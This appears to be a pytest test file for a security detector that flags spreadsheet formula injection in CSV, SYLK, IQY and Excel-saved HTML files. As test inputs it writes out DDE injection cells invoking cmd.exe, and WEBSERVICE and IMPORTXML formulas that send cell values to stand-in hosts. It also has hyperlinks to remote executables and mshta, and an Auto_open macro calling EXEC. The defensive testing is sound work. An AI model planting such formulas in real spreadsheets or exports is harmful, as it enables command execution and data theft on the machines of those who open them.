from __future__ import annotations

import pytest

from gateway.extract.base import Node
from gateway.extract.bounded import LimitReached
from gateway.extract.workbook import formulas
from gateway.extract.workbook.formulas import DATABASE, FORMULAS, QUERY
from gateway.model.artifact import Artifact, ArtifactKind
from gateway.model.content import Observation
from tests.builders.archives import codes, take_apart
from tests.builders.growth import linear


@pytest.mark.parametrize("text", [
    "a,b\r\n=cmd|'/c rem'!A0,1\r\n", '"@SUM(1+1)*cmd|\' /C rem\'!A0"\r\n', "=MSEXCEL|'\\..\\..\\cmd.exe /c rem'!''", "1,+cmd|' /C rem'!'A1'\n",
    "\u00a0=cmd|' /C rem'!A1",
    "x;-2+3+cmd|' /C rem'!D2", '=DDE("cmd";"/C rem";"!A0")|x!'
])
def test_dde_in_tables(text: str) -> None:
    assert "FORMULA-DDE" in codes(list(take_apart(FORMULAS, text.encode(), "a.csv", kind="text/csv")))
    for charset in ("utf-16", "utf-16-be", "utf-16-le"):
        assert "FORMULA-DDE" in codes(list(take_apart(FORMULAS, text.encode(charset), "a.csv", kind="text/csv")))


@pytest.mark.parametrize("text", [
    "name,phone\n王小明,+886-912-345-678\n", "a|b|c\n-1|2|3!\n", "=SUM(A1:A3)\n", "@user,hello | world!\n", "a,=1+1\n", "- item | cmd prompt\n",
    "-5,100|200,wow!\n",
])
def test_ordinary_tables(text: str) -> None:
    assert codes(list(take_apart(FORMULAS, text.encode(), "a.csv", kind="text/csv"))) == set()


def test_prose_may_quote_formulas() -> None:
    text = b"The cell was =cmd|'/c rem'!A0 as reported"
    assert codes(list(take_apart(FORMULAS, text, kind="text/plain"))) == set()


@pytest.mark.parametrize(("name", "held"), [("table", True), ("", False), ("notes.md", False)])
def test_a_file_whose_name_says_nothing_may_be_a_table(name: str, held: bool) -> None:
    found = take_apart(FORMULAS, b"Name,Sum\r\n=cmd|'/c rem'!A0,5\r\n", *([name] if name else []), kind="text/plain")
    assert ("FORMULA-DDE" in codes(found)) == held


def test_query_files_and_calls() -> None:
    assert codes(list(take_apart(FORMULAS, b"WEB\r\n1\r\nhttp://h.example/q\r\n", "a.iqy", kind="text/plain"))) == {"FORMULA-QUERY"}
    assert "FORMULA-CALL" in codes(list(take_apart(FORMULAS, b'a,=WEBSERVICE("http://h.example/"&A1)\n', "a.csv", kind="text/csv")))
    joined = b'a,=IMPORTXML(CONCATENATE("http://h.example/?v=",A1),"//a")\n'
    assert "FORMULA-CALL" in codes(list(take_apart(FORMULAS, joined, "a.csv", kind="text/csv")))
    assert not codes(list(take_apart(FORMULAS, joined.replace(b"IMPORTXML", b"LEN"), "a.csv", kind="text/csv")))


def test_sylk() -> None:
    data = b"ID;P\r\nO;E\r\nNN;NAuto_open;ER101C1\r\nC;X1;Y101;EEXEC(\"cmd\")\r\nE\r\n"
    assert {"XLM-AUTO-NAME", "XLM-SHEET", "XLM-CALL"} <= codes(list(take_apart(FORMULAS, data, "a.slk", kind="text/plain")))
    assert codes(list(take_apart(FORMULAS, b"ID;PWXL;N;E\r\nC;Y1;X1;K1\r\nC;X2;ER[1]C*2\r\nE\r\n", "a.slk", kind="text/plain"))) == set()


def test_long_tables_are_linear() -> None:
    assert codes(list(take_apart(FORMULAS, b"=a|b" * 250_000, "a.csv", kind="text/csv"))) is not None
    assert codes(list(take_apart(FORMULAS, b"+,|" * 300_000 + b"!", "a.csv", kind="text/csv"))) is not None


def test_html_under_the_name_of_a_workbook() -> None:
    page = b"<html><table><tr><td>=cmd|'/c rem'!A0</td></tr></table></html>"
    assert "FORMULA-DDE" in codes(list(take_apart(FORMULAS, page, "a.xls", kind="text/html")))
    assert codes(list(take_apart(FORMULAS, b"<html><td>a | b! cmd</td></html>", "a.xls", kind="text/html"))) == set()


@pytest.mark.parametrize("head", [b"WEB", b"XLODBC", b"WEB\n1"])
def test_lines_before_a_query_are_read_once(head: bytes) -> None:
    assert linear(lambda data: (QUERY.match(data), DATABASE.match(data)), lambda n: head + b"\r\n" * n, 1_500)


@pytest.mark.parametrize(("data", "address"), [(b" WEB \r\n\r\n 1 \n http://h.example/", b"http://h.example/"), (b"web\r1\r\\\\h\\s", b"\\\\h\\s"), (b"WEB 1\nx", None)])
def test_queries_with_lines_between(data: bytes, address: bytes | None) -> None:
    found = QUERY.match(data)
    assert (found[1] if found else None) == address


@pytest.mark.parametrize(("cell", "held"), [
    ("=notepad|'/c x'!A0", True), ("=IF(1,odbcad32|'x' !A0)", True), ("=\"a\"&foo|'x'!B1", True), ("|'x'!A0", False), ("-5 | 'a' | note!", False), ("=A1|B1", False),
])
def test_any_service_may_be_called(cell: str, held: bool) -> None:
    found = {o.code for o in take_apart(FORMULAS, f"name;sum\n{cell};1\n".encode(), "a.csv", kind="text/csv") if isinstance(o, Observation)}
    assert ("FORMULA-DDE" in found) == held


def test_tables_with_noise_behind_them() -> None:
    data = b"a;b\n=cmd|'/c x'!A0;1\n" + bytes(range(256)) * 9
    assert [o.code for o in take_apart(FORMULAS, data, "a.csv", kind="application/octet-stream") if isinstance(o, Observation)] == ["FORMULA-DDE"]
    node = Node(Artifact(0, None, ArtifactKind.PART, ("a.bin",)), data, "application/octet-stream")
    assert not FORMULAS.claims(node) and FORMULAS.claims(Node(node.artifact, b"ID;P\n" + bytes(9), "application/octet-stream"))


@pytest.mark.parametrize(("cell", "code"), [
    ('"=HYPERLINK(""file://192.0.2.1/s/a.exe"",""open"")"', "DOC-LINK-PROGRAM"), ("=hyperlink(\"C:\\Windows\\System32\\mshta.exe http://h\")", "DOC-LINK-PROGRAM"),
    ('"=IF(1,HYPERLINK(""search-ms:query=a""),2)"', "DOC-LINK-SCHEME"), ('=IMAGE("\\\\h.example\\s\\a.png")', "DOC-EXTERNAL-SHARE"),
    ('"=HYPERLINK(""https://www.example.com/a"",""a"")"', ""), ('see HYPERLINK("file://192.0.2.1/s/a.exe")', ""), ('=HYPERLINK("report.xlsx")', ""), ('=IMAGE("https://h.example/a.png")', ""),
])
def test_links_of_tables(cell: str, code: str) -> None:
    assert codes(list(take_apart(FORMULAS, f"name,link\r\na,{cell}\r\n".encode(), "a.csv", kind="text/csv"))) == ({code} if code else set())


def test_many_links_are_judged_in_one_pass() -> None:
    assert linear(lambda data: list(take_apart(FORMULAS, data, "a.csv", kind="text/csv")), lambda n: b'x,=HYPERLINK("https://h.example/a","b")\n' * n, 1_500)


@pytest.mark.parametrize(("page", "code"), [
    ("<td x:fmla=\"=cmd|'/c rem'!A0\">1</td>", "FORMULA-DDE"), ("<td x:fmla='+a.exe|&#39;/c rem&#39;!A0'>1</td>", "FORMULA-DDE"),
    ("<td x:num x:fmla==HYPERLINK(&quot;file:///C:/a.exe&quot;)>1</td>", "DOC-LINK-PROGRAM"),
    ("<td x:fmla='=WEBSERVICE(&quot;http://h.invalid/&quot;&amp;A1)'>1</td>", "FORMULA-CALL"),
    ("<td x:fmla='=SUM(A1:A2)'>1</td>", ""), ("<td x:fmla='=IF(A1>0,&quot;a|b&quot;,1)'>!</td>", ""),
])
def test_formulas_of_pages(page: str, code: str) -> None:
    """By their attributes in whatever Excel wrote, by what cells show where Excel opens it."""
    excel = f'<html xmlns:x="urn:schemas-microsoft-com:office:excel"><table><tr>{page}</tr></table></html>'.encode()
    plain = f"<html><table><tr>{page}</tr></table></html>".encode()
    for data, names in ((excel, ()), (plain, ("a.xls",))):
        assert codes(list(take_apart(FORMULAS, data, *names, kind="text/html"))) == ({code} if code else set())


def test_cells_of_pages_over_tags_and_entities() -> None:
    page = b"<table><tr><td class=a>\n <b>=</b>cmd|&#x27;/c rem&#x27;!A0</td></tr></table>"
    assert codes(list(take_apart(FORMULAS, page, "a.xls", kind="text/html"))) == {"FORMULA-DDE"}
    told = b"<html xmlns:x='urn:schemas-microsoft-com:office:excel'><p>=cmd|'/c rem'!A0"
    assert codes(list(take_apart(FORMULAS, told, "a.htm", kind="text/html"))) == set()


def test_pages_are_read_in_one_pass() -> None:
    def read(data: bytes) -> object:
        return list(take_apart(FORMULAS, data, "a.xls", kind="text/html"))

    for piece in (b"<td>=a|b", b" fmla=\"", b"<", b"<td"):
        assert linear(read, lambda n, piece=piece: piece * n, 4_000)


@pytest.mark.parametrize(("page", "depth", "claimed"), [
    (b"<table><tr><td>=a.exe|'x'!A0</td></tr></table>", 2, True), (b"<table><tr><td class=x>&#61;A1</td></tr></table>", 3, True),
    (b"<table><tr><td>=a.exe|'x'!A0</td></tr></table>", 1, False), (b"<table><tr><td>a=1</td></tr></table>", 2, False),
])
def test_pages_within_saved_ones(page: bytes, depth: int, claimed: bool) -> None:
    node = Node(Artifact(3, 1, ArtifactKind.PART, depth=depth), page, "text/html")
    assert FORMULAS.claims(node) is claimed


@pytest.mark.parametrize("charset", ["utf-8", "gb18030", "cp950", "cp932"])
def test_wide_signs_of_every_charset(charset: str) -> None:
    text = "名,x\r\na,\uff1dcmd|'/c rem'!A0\r\n".encode(charset)
    assert "FORMULA-DDE" in codes(take_apart(FORMULAS, text, "a.csv", kind="text/csv"))


@pytest.mark.parametrize(("formula", "code"), [
    ("'\\\\h.example\\s\\[a.xls]A'!R1C1", "DOC-REMOTE-WORKBOOK"), ('HYPERLINK("\\\\h.example\\s\\a.exe","x")', "DOC-LINK-PROGRAM"),
    ("'\\\\fs01\\s\\[a.xls]A'!R1C1", ""), ('HYPERLINK("https://h.example/","x")', ""), ("SUM(R1C1:R2C1)", ""),
])
def test_sylk_that_leads_elsewhere(formula: str, code: str) -> None:
    text = f"ID;PWXL;N;E\r\nC;Y1;X1;K0;E{formula}\r\nE\r\n".encode()
    assert codes(take_apart(FORMULAS, text, "a.slk", kind="text/plain")) == ({code} if code else set())


def test_texts_that_a_table_imports() -> None:
    assert "FORMULA-CALL" in codes(take_apart(FORMULAS, b'a,"=IMPORTCSV(""http://h.example/a.csv"")"\n', "a.csv", kind="text/csv"))
    assert not codes(take_apart(FORMULAS, b'a,"=IMPORTCSV(""a.csv"")"\n', "a.csv", kind="text/csv"))


@pytest.mark.parametrize("decoy", ["x,cmd | a ! b\n", 'x,DDE("a")\n', "x|'a'!b\n"])
def test_many_that_are_none_hide_no_formula(decoy: str) -> None:
    text = decoy * 9_000 + "=cmd|'/c rem'!A0\n"
    assert "FORMULA-DDE" in codes(take_apart(FORMULAS, text.encode(), "a.csv", kind="text/csv"))


def test_more_calls_than_are_looked_at(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(formulas, "CANDIDATES", 20)
    with pytest.raises(LimitReached, match="names of services"):
        take_apart(FORMULAS, b"x,cmd | a ! b\n" * 21, "a.csv", kind="text/csv")


@pytest.mark.parametrize("charset", ["utf-16", "utf-32", "utf-32-be"])
def test_wide_tables(charset: str) -> None:
    text = "Date,Amount\r\n1,=DDE(\"cmd\";\"/c rem\";\"x\")\r\n"
    data = (b"\0\0\xfe\xff" if charset == "utf-32-be" else b"") + text.encode(charset)
    assert codes(list(take_apart(FORMULAS, data, "a.csv", kind="text/csv"))) == {"FORMULA-DDE"}


@pytest.mark.parametrize("charset", ["utf-8", "utf-16", "utf-16-le"])
def test_wide_pages(charset: str) -> None:
    page = f'<html xmlns:x="{formulas.EXCEL.decode()}"><td x:fmla="=cmd|\'/c rem\'!A0">1</td></html>'.encode(charset)
    node = Node(Artifact(1, 0, ArtifactKind.PART, ("a.htm",)), page, "text/html")
    assert FORMULAS.claims(node) and "FORMULA-DDE" in codes(list(take_apart(FORMULAS, page, "a.htm", kind="text/html")))


def test_pages_that_begin_like_xml() -> None:
    page = b'<?xml version="1.0"?>\n<html xmlns:x="urn:schemas-microsoft-com:office:excel"><td x:fmla="=cmd|\'/c rem\'!A0">1</td></html>'
    assert codes(list(take_apart(FORMULAS, page, "a.xls", kind="text/xml"))) == {"FORMULA-DDE"}
    assert codes(list(take_apart(FORMULAS, b'<?xml version="1.0"?><a b="1"/>', "a.xml", kind="text/xml"))) == set()


@pytest.mark.parametrize(("cell", "held"), [
    ("='\\\\h.example\\s\\[a.xls]S'!A1", True), ("\"=SUM('https://h.example/[a.xlsx]S'!A1:A9)\"", True), ("='\\\\fs01\\s\\[a.xls]S'!A1", False),
    ("see '\\\\h.example\\s\\[a.xls]S'!A1", False), ("='Plan 2026'!A1", False),
])
def test_cells_that_read_a_workbook_elsewhere(cell: str, held: bool) -> None:
    assert codes(list(take_apart(FORMULAS, f"a,b\r\n1,{cell}\r\n".encode(), "a.csv", kind="text/csv"))) == ({"DOC-REMOTE-WORKBOOK"} if held else set())
